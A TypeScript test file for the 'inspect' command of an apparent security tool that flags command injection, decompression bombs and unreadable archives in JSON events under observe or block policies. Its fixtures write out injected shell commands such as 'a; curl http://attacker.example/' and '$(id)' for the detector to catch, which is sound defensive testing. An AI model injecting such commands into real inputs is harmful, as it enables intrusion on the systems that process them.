import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { runCommandLine } from '../command-line.ts';
import { readLines } from '../inspect/read-lines.ts';
import { fakeIo } from '../testing/fake-io.ts';
import { inspectCommand } from './inspect.ts';

const cwd = mkdtempSync(join(tmpdir(), 'postern inspect '));
after(() => rmSync(cwd, { recursive: true }));
const attack = { cmd: 'a; curl http://attacker.example/' };
const bomb = { v: gzipSync(Buffer.alloc(30_000_000)).toString('base64') };
const sealed = { v: encryptedZip().toString('base64') };
const files = {
  'attack.json': JSON.stringify(attack),
  'benign.json': '{\n  "name": "Tom & Jerry"\n}\n',
  'wrong.json': '{\n  "a": 1,\n  "b" 2\n}\n',
  'mixed.jsonl': `${JSON.stringify({ a: 'ok' })}\n{"a":\r\n\n${JSON.stringify(attack)}\r\n"x"`,
  'kinds.jsonl': `${JSON.stringify(attack)}\n${readFileSync(new URL('../../../../fixtures/events/openwhisk/raw-http-web-action.json', import.meta.url), 'utf8').replace(/\n/g, '')}\n`,
  'clean.jsonl': '{"a":"x"}\n{"a":"y"}\n',
  'bytes.jsonl': Buffer.concat([Buffer.from('{"a":"x"}\n'), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from('{"a":"y"}\n')]),
  'bomb.json': JSON.stringify(bomb),
  'sealed.json': JSON.stringify(sealed),
  'empty.jsonl': '',
  'blank.jsonl': '\n \r\n\n',
  'mark.json': `\ufeff${JSON.stringify(attack)}`,
  'mark.jsonl': `\ufeff${JSON.stringify(attack)}\n{"a":1}\n`,
  'lines.NDJSON': '{"a":1}\n{"a":2}\n',
  'long.jsonl': `{"a":"x"}\n"${'a'.repeat(9 << 20)}\n["${'b'.repeat(50 << 20)}\u0001"]\n{"c":"${'c'.repeat(50 << 20)}\n${JSON.stringify(attack)}\n`,
  'many.json': JSON.stringify(Array.from({ length: 1234 }, (_, i) => `${i}; curl http://attacker.example/`)),
  'block.yaml':
    'version: 1\nmode: block\nonIncomplete: block\ndoor:\n  block: [cmdi]\nfunctions:\n' +
    '  lenient: { door: { block: [] } }\n  watched: { mode: observe }\n  quiet: { mode: off }\n  late: { door: { inspect: sink } }\n' +
    '  some: { door: { triggers: { unknown: { inspect: sampled } } } }\n  open: { onIncomplete: allow }\n',
  'modeless.yaml': 'version: 1\ndoor:\n  block: [cmdi]\n',
  'wrong.yaml': 'version: 1\ndoor:\n  blok: [cmdi]\n',
};
for (const [name, text] of Object.entries(files)) writeFileSync(join(cwd, name), text);

const one = (line: number, level: string, verdict: string) =>
  new RegExp(`^\\{"line":${line},"trigger":"unknown","level":"${level}","verdict":"${verdict}"`, 'm');
const rows: readonly {
  name: string;
  args: string[];
  stdin?: string;
  code: number;
  output?: readonly RegExp[];
  errors?: RegExp;
  lines?: number;
}[] = [
  {
    name: 'an attack',
    args: ['attack.json'],
    code: 1,
    output: [one(1, 'certain', 'observe'), /"class":"cmdi","cwe":\[78\],"path":"\$\.cmd","encodings":\[\],"span":\[3,32\]/],
    lines: 1,
  },
  { name: 'nothing', args: ['benign.json'], code: 0, output: [one(1, 'none', 'allow')], lines: 1 },
  { name: 'standard input', args: [], stdin: '"; curl http://attacker.example/x"', code: 1, output: [one(1, 'certain', 'observe')] },
  { name: 'standard input by its dash', args: ['-'], stdin: '{}', code: 0, output: [one(1, 'none', 'allow')] },
  {
    name: 'no JSON: where and why',
    args: ['wrong.json'],
    code: 2,
    errors: /^postern inspect: wrong\.json:3:7: is not JSON: unexpected 2, expected ":"\n$/,
    lines: 0,
  },
  { name: 'nothing at all', args: ['-'], stdin: '', code: 2, errors: /^postern inspect: standard input:1:1: is not JSON/ },
  { name: 'a file that is not there', args: ['none.json'], code: 2, errors: /none\.json: does not exist/ },
  { name: 'a folder', args: ['.'], code: 2, errors: /is a folder/ },
  {
    name: 'lines: the bad one is named, the others are answered',
    args: ['--jsonl', 'mixed.jsonl'],
    code: 2,
    output: [one(1, 'none', 'allow'), one(4, 'certain', 'observe'), one(5, 'none', 'allow')],
    errors: /^postern inspect: mixed\.jsonl:2:6: is not JSON: the text ends too early, expected a value\n$/,
    lines: 3,
  },
  {
    name: 'lines from standard input',
    args: ['--jsonl'],
    stdin: '{"a":"$(id)"}\n',
    code: 1,
    output: [one(1, 'certain', 'observe')],
    lines: 1,
  },
  { name: 'clean lines', args: ['--jsonl', 'clean.jsonl'], code: 0, lines: 2 },
  {
    name: 'a line that is no UTF-8',
    args: ['--jsonl', 'bytes.jsonl'],
    code: 2,
    errors: /^postern inspect: bytes\.jsonl:2:1: the line is no text in UTF-8\n$/,
    lines: 2,
  },
  { name: 'lines of a file that is not there', args: ['--jsonl', 'none.jsonl'], code: 2, errors: /none\.jsonl: does not exist/ },
  { name: 'lines of a folder', args: ['--jsonl', '.'], code: 2, errors: /is a folder/ },
  { name: 'a policy that blocks', args: ['attack.json', '--policy', 'block.yaml'], code: 1, output: [one(1, 'certain', 'block')] },
  {
    name: 'the settings of a function',
    args: ['attack.json', '--policy', 'block.yaml', '--function', 'lenient'],
    code: 1,
    output: [one(1, 'certain', 'observe')],
  },
  {
    name: 'a function that the policy does not name: its general settings hold, and that is said',
    args: ['attack.json', '--policy', 'block.yaml', '--function', 'leniet'],
    code: 1,
    output: [one(1, 'certain', 'block')],
    errors: /^postern inspect: note: block\.yaml has no function "leniet", so its general settings hold\. Did you mean "lenient"\?\n$/,
  },
  {
    name: 'a function under a policy without functions',
    args: ['attack.json', '--policy', 'modeless.yaml', '--function', 'any'],
    code: 1,
    output: [one(1, 'certain', 'observe')],
  },
  {
    name: 'a bomb is an attack, and the rest of it was not looked at',
    args: ['bomb.json'],
    code: 1,
    output: [
      /"level":"certain","verdict":"observe","reason":"certain, and [^"]*\\"ratio\\", and onIncomplete is observe","incomplete":"ratio".*"class":"bomb"/,
    ],
  },
  {
    name: 'what cannot be read is incomplete, and that is not clean',
    args: ['sealed.json'],
    code: 1,
    output: [/"level":"none","verdict":"observe","reason":"[^"]*\\"unreadable\\", and onIncomplete is observe","incomplete":"unreadable"/],
  },
  {
    name: 'a policy that blocks what is incomplete',
    args: ['sealed.json', '--policy', 'block.yaml'],
    code: 1,
    output: [one(1, 'none', 'block')],
  },
  {
    name: 'a policy that allows what is incomplete',
    args: ['sealed.json', '--policy', 'block.yaml', '--function', 'open'],
    code: 0,
    output: [one(1, 'none', 'allow')],
  },
  ...[
    { name: 'observes', args: ['--function', 'watched'], verdict: 'observe', reason: /blocks it .*; but the mode is observe/ },
    { name: 'observes, in block', args: ['--function', 'watched', '--mode', 'block'], verdict: 'block', reason: /cmdi is certain/ },
    { name: 'blocks, in observe', args: ['--mode', 'observe'], verdict: 'block', reason: /cmdi is certain/ },
    { name: 'is off', args: ['--function', 'quiet'], verdict: 'allow', reason: /the mode is off/ },
    { name: 'looks at the sink', args: ['--function', 'late'], verdict: 'observe', reason: /when a sink needs them/ },
    { name: 'samples', args: ['--function', 'some'], verdict: 'observe', reason: /one event in 10/ },
  ].map(({ name, args, verdict, reason }) => ({
    name: `a policy that ${name}`,
    args: ['attack.json', '--policy', 'block.yaml', ...args],
    code: 1,
    output: [one(1, 'certain', verdict), reason],
  })),
  {
    name: 'without a mode anywhere the guard observes',
    args: ['attack.json', '--policy', 'modeless.yaml'],
    code: 1,
    output: [one(1, 'certain', 'observe'), /the mode is observe/],
  },
  {
    name: 'a mode that is not there yet',
    args: ['attack.json', '--mode', 'learn'],
    code: 2,
    errors: /"learn" is none of off, observe, block/,
  },
  { name: 'a byte order mark', args: ['mark.json'], code: 1, output: [one(1, 'certain', 'observe')] },
  { name: 'a byte order mark before lines', args: ['--jsonl', 'mark.jsonl'], code: 1, output: [one(1, 'certain', 'observe')], lines: 2 },
  { name: 'a byte order mark on standard input', args: [], stdin: '\ufeff{}', code: 0, lines: 1 },
  { name: 'lines of an empty file', args: ['--jsonl', 'empty.jsonl'], code: 2, errors: /^postern inspect: empty\.jsonl: nothing was read/ },
  { name: 'lines with nothing in them', args: ['--jsonl', 'blank.jsonl'], code: 2, errors: /blank\.jsonl: nothing was read/ },
  {
    name: 'lines without --jsonl',
    args: ['clean.jsonl'],
    code: 2,
    errors: /clean\.jsonl:2:1: is not JSON: unexpected \{, expected the end\. One event a line is read with --jsonl\.\n/,
  },
  { name: 'lines under their other name', args: ['lines.NDJSON'], code: 2, errors: /read with --jsonl/ },
  {
    name: 'long lines that are broken: each with its place, the others answered',
    args: ['--jsonl', 'long.jsonl'],
    code: 2,
    output: [one(1, 'none', 'allow'), one(5, 'certain', 'observe')],
    errors: new RegExp(
      `^postern inspect: long\\.jsonl:2:1: [^\\n]*does not end\\npostern inspect: long\\.jsonl:3:${(50 << 20) + 3}: [^\\n]*U\\+0001[^\\n]*\\npostern inspect: long\\.jsonl:4:6: [^\\n]*does not end\\n$`,
    ),
    lines: 2,
  },
  {
    name: 'an event made of attacks is answered in bounds',
    args: ['many.json'],
    code: 1,
    output: [/^.{1,100000}"more":1134\}\n$/],
    lines: 1,
  },
  {
    name: 'the same for a person',
    args: ['many.json', '--format', 'table'],
    code: 1,
    output: [/ {7}and 1134 more\n {7}observe: certain, /],
  },
  {
    name: 'a policy with a typo',
    args: ['attack.json', '--policy', 'wrong.yaml'],
    code: 2,
    errors: /wrong\.yaml:3:3: .*Did you mean "block"/,
    lines: 0,
  },
  {
    name: 'for a person',
    args: ['attack.json', '--format', 'table'],
    code: 1,
    output: [/1 {2}unknown +certain +observe\n +cmdi \(CWE-78\), high: .*\n +event \$\.cmd\n +a; «curl http:\/\/attacker\.example\/»\n/],
  },
  {
    name: 'lines for a person end in what they came to',
    args: ['--jsonl', 'mixed.jsonl', '--format', 'table'],
    code: 2,
    output: [/\n3 events: 1 certain, 2 clean; 1 line unreadable\n$/],
    errors: /mixed\.jsonl:2:6/,
  },
  {
    name: 'columns are as wide as the longest name of a trigger',
    args: ['--jsonl', 'kinds.jsonl', '--format', 'table'],
    code: 1,
    output: [/^ {4}1 {2}[a-z:-]{7,} +certain {5}observe\n(.*\n)+ {4}2 {2}[a-z:-]+ +none {8}allow\n2 events: 1 certain, 1 clean\n$/],
  },
  { name: 'an unknown format', args: ['--format', 'tabel'], code: 2, errors: /Did you mean "table"/ },
  { name: 'two files', args: ['a', 'b'], code: 2, errors: /one file too many/ },
];
test('the table has rows', (context) => context.diagnostic(`note: inspect: ${rows.length} command lines`));
for (const { name, args, stdin, code, output = [], errors, lines } of rows)
  test(name, async () => {
    const io = fakeIo(stdin === undefined ? { cwd } : { cwd, stdin });
    assert.equal(await runCommandLine(['inspect', ...args], [inspectCommand], io), code, io.errors());
    for (const pattern of output) assert.match(io.output(), pattern);
    if (errors) assert.match(io.errors(), errors);
    else assert.equal(io.errors(), '');
    if (lines !== undefined) assert.equal(io.output().split('\n').length - 1, lines, io.output());
  });

test('lines are put together from any pieces, and one too long does not hide the next', async () => {
  const text = Buffer.from('é1\n\n€2\nxxxxxxxxxxxx\nend');
  for (const size of [1, 2, 3, 7, 100]) {
    const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.subarray(i * size, (i + 1) * size));
    const lines: string[] = [];
    for await (const line of readLines(Readable.from(pieces), 10))
      lines.push('text' in line ? `${line.number} ${line.text}` : `${line.number} !`);
    assert.deepEqual(lines, ['1 é1', '2 ', '3 €2', '4 !', '5 end'], `pieces of ${size}`);
  }
});

/** An archive whose one member is encrypted (APPNOTE.TXT 4.4.4, bit 0): its name can be read, its content cannot. */
function encryptedZip(): Buffer {
  const member = Buffer.alloc(26);
  member.writeUInt16LE(20, 0);
  member.writeUInt16LE(1, 2);
  member.writeUInt32LE(12, 14);
  member.writeUInt32LE(12, 18);
  member.writeUInt16LE(5, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), member, Buffer.from('a.txt'), Buffer.alloc(12, 0x9f)]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), member, Buffer.alloc(14), Buffer.from('a.txt')]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
